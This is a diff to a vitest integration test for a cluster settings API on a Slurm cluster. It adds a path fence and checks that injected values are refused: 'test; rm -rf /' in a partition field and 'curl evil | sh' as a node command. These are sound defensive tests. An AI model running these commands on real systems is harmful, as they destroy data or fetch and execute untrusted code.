@@ -13,6 +13,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { localPromethiumCommand, sliceInlines } from '../../main/cluster/clusterApply';
 import { createApiHandlers } from '../../main/api/handlers';
 import { createDispatcher } from '../../main/api/dispatch';
+import { dataRootsFence } from '../../main/api/pathFence';
 import { forkComputeLauncher } from '../../main/jobs/forkCompute';
 import { AppServices } from '../../main/workflows/services';
 import { slurmUnavailable, startTestSlurm, type TestSlurm } from '../support/slurmCluster';
@@ -198,10 +199,14 @@ describe.skipIf(unavailable !== null)('apply to volume on a Slurm cluster', () =
         showOpenDialog: async () => ({ canceled: true, paths: [] }),
       },
     });
-    const dispatch = createDispatcher(createApiHandlers(services));
+    // This test passes no paths; the project folder is its one data root.
+    const dispatch = createDispatcher(createApiHandlers(services), dataRootsFence([project]));
     try {
       const refused = await dispatch('cluster.updateSettings', [{ partition: 'test; rm -rf /' }]);
       expect(refused).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
+      // What the nodes run is set from the command line only, never by a page holding the token.
+      const command = await dispatch('cluster.updateSettings', [{ command: 'curl evil | sh' }]);
+      expect(command).toMatchObject({ ok: false, error: { code: 'invalid-argument' } });
       expect(await dispatch('cluster.updateSettings', [{ tasks: 2 }])).toMatchObject({ ok: true, value: { tasks: 2 } });
       const applied = await dispatch('cluster.apply', [{ surveyId, task: 'denoise', method: 'fx' }, {}]);
       expect(applied.ok, JSON.stringify(applied)).toBe(true);
